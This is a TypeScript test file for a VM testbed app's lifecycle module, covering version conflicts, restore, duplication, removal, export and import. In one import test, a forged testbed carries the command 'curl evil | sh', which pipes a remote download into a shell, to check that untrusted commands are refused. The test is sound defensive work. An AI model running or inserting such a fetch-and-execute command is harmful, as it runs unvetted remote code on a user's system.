import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { layoutSchema, type Testbed, testbedSchema } from '../../../src/core/testbed/testbed.ts';
import { parseTestbedFile } from '../../../src/core/testbed/testbedFile.ts';
import { openDatabase } from '../db/open.ts';
import type { Database } from '../db/types.ts';
import { silentLog } from '../deps.ts';
import { testbedLife } from './life.ts';

const log = silentLog;
const signal = new AbortController().signal;
let nowMs = 1_000;
let dir: string;
let db: Database;
let life: ReturnType<typeof testbedLife>;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'tb-life-'));
  db = openDatabase({
    dataDir: dir,
    clock: { now: () => (nowMs += 1_000), sleep: async () => undefined },
    log,
    powerSafe: false,
  });
  life = testbedLife({
    deps: { ids: { next: (prefix) => `${prefix}-new` } },
    db,
    emit: () => undefined,
    profiles: { has: (id) => id !== 'gone', get: () => undefined },
  });
});
afterEach(() => {
  db.close();
  rmSync(dir, { recursive: true, force: true });
});

const bed = (change: Partial<Testbed> = {}): Testbed =>
  testbedSchema.parse({
    id: 't',
    name: 'Bed',
    profileId: 'p',
    vcenterId: null,
    tiles: [{ index: 0, workloads: [{ workloadId: 'java', vm: null, clientId: 'c1' }] }],
    ...change,
  });
const save = (testbed: Testbed): Promise<Testbed> => life['testbed.save'](testbed, signal);
const made = [{ ref: 'vm-9', name: 'tile1-java' }];

test('a save from an older version is refused with both versions named, and what is stored stays', async () => {
  const first = await save(bed());
  const second = await save({ ...first, name: 'Of somebody' });
  await expect(save({ ...first, name: 'Of somebody else' })).rejects.toMatchObject({
    kind: 'conflict',
    message:
      'Testbed Of somebody was saved meanwhile: it is at version 2, these changes began at version 1.',
    details: { storedVersion: 2 },
  });
  expect(db.testbeds.get('t')).toEqual(second);
  expect((await save({ ...second, name: 'Third' })).version).toBe(3);
});

test('an earlier state comes back as the newest, and what this app made since is not forgotten', async () => {
  const first = await save(bed());
  db.testbeds.saveFor(
    {
      ...first,
      layout: layoutSchema.parse({ made, madeFolder: { ref: 'f-1', name: 'Tilebench Bed' } }),
    },
    'provision-1',
  );
  expect(
    (await life['testbed.versions']({ id: 't' }, signal)).map(
      ({ version, by, current, savedAtMs }) => [version, by, current, savedAtMs !== null],
    ),
  ).toEqual([
    [2, 'provisioning', true, true],
    [1, 'person', false, true],
  ]);
  const restored = await life['testbed.restore']({ id: 't', version: 1 }, signal);
  expect(restored).toMatchObject({ version: 3, layout: { made, madeFolder: { ref: 'f-1' } } });
  expect(await life['testbed.version']({ id: 't', version: 1 }, signal)).toEqual(first);
  await expect(life['testbed.restore']({ id: 't', version: 9 }, signal)).rejects.toMatchObject({
    kind: 'notFound',
  });
});

test('a form cannot add to what may be deleted, nor take from it', async () => {
  const first = await save(bed());
  db.testbeds.saveFor({ ...first, layout: layoutSchema.parse({ made }) }, 'provision-1');
  const forged = await save({
    ...db.testbeds.get('t')!,
    layout: layoutSchema.parse({ made: [{ ref: 'vm-1', name: 'theirs' }] }),
  });
  expect(forged.layout!.made).toEqual(made);
});

test('a duplicate is a testbed of its own that owns no VM of the first', async () => {
  const first = await save(bed());
  db.testbeds.saveFor(
    { ...first, layout: layoutSchema.parse({ made, namePattern: 'x{tile}-{workload}' }) },
    'provision-1',
  );
  const copy = await life['testbed.duplicate']({ id: 't' }, signal);
  expect(copy).toMatchObject({
    id: 'testbed-new',
    name: 'Bed copy',
    version: 1,
    layout: { made: [], namePattern: 'x{tile}-{workload}' },
  });
  expect(await life['testbed.versions']({ id: 'testbed-new' }, signal)).toHaveLength(1);
  expect((await life['testbed.duplicate']({ id: 't', name: 'Named' }, signal)).name).toBe('Named');
});

test('removed and undone, the versions are there again', async () => {
  const first = await save(bed());
  await life['testbed.remove']({ id: 't' }, signal);
  await expect(life['testbed.versions']({ id: 't' }, signal)).rejects.toMatchObject({
    kind: 'notFound',
  });
  await save(first);
  expect(
    (await life['testbed.versions']({ id: 't' }, signal)).map(({ version }) => version),
  ).toEqual([2, 1]);
});

test('nothing is removed or restored while VMs are being made', async () => {
  await save(bed());
  db.provisions.save({
    id: 'j',
    testbedId: 't',
    vcenterId: 'vc',
    rev: 1,
    state: 'running',
    purpose: 'make',
    options: { powerOn: true, stageSize: 1, stagePauseS: 0 },
    folder: null,
    items: [],
    startedAtMs: 0,
    endedAtMs: null,
    nowMs: 0,
    error: null,
  });
  await expect(life['testbed.remove']({ id: 't' }, signal)).rejects.toMatchObject({
    kind: 'conflict',
  });
  await expect(life['testbed.restore']({ id: 't', version: 1 }, signal)).rejects.toMatchObject({
    kind: 'conflict',
  });
  await expect(life['testbed.restore']({ id: 'none', version: 1 }, signal)).rejects.toMatchObject({
    kind: 'notFound',
  });
});

test('an export holds names and nothing that this app made; what is imported is a testbed of its own', async () => {
  const first = await save(bed({ name: 'Bed: a/b' }));
  db.connections.save({
    kind: 'client',
    id: 'c1',
    name: 'client one',
    host: 'secret.lab',
    port: 22,
    user: 'root',
    auth: { method: 'agent' },
  });
  db.testbeds.saveFor(
    {
      ...first,
      layout: layoutSchema.parse({ made, madeFolder: { ref: 'f-1', name: 'Tilebench Bed' } }),
    },
    'provision-1',
  );
  const { fileName, text } = await life['testbed.export']({ id: 't' }, signal);
  expect(fileName).toBe('Bed-a-b.testbed.json');
  expect(text).toContain('client one');
  expect(text).not.toMatch(/secret\.lab|root|vm-9|f-1/);
  const file = parseTestbedFile(fileName, text);
  const imported = await life['testbed.import'](
    {
      testbed: {
        ...file.testbed,
        layout: layoutSchema.parse({ made: [{ ref: 'vm-1', name: 'theirs' }] }),
      },
      allowCommands: false,
    },
    signal,
  );
  expect(imported).toMatchObject({
    id: 'testbed-new',
    version: 1,
    name: 'Bed: a/b',
    layout: { made: [] },
  });
  await expect(
    life['testbed.import'](
      { testbed: { ...file.testbed, profileId: 'gone' }, allowCommands: false },
      signal,
    ),
  ).rejects.toMatchObject({ kind: 'invalidInput' });
  const forged = {
    ...file.testbed,
    tiles: [
      {
        index: 0,
        workloads: [
          { workloadId: 'w', vm: null, clientId: 'c', params: { command: 'curl evil | sh' } },
        ],
      },
    ],
  };
  const before = db.testbeds.list().length;
  await expect(
    life['testbed.import']({ testbed: forged, allowCommands: false }, signal),
  ).rejects.toMatchObject({ kind: 'untrusted' });
  expect(db.testbeds.list()).toHaveLength(before);
  await life['testbed.import']({ testbed: forged, allowCommands: true }, signal);
});
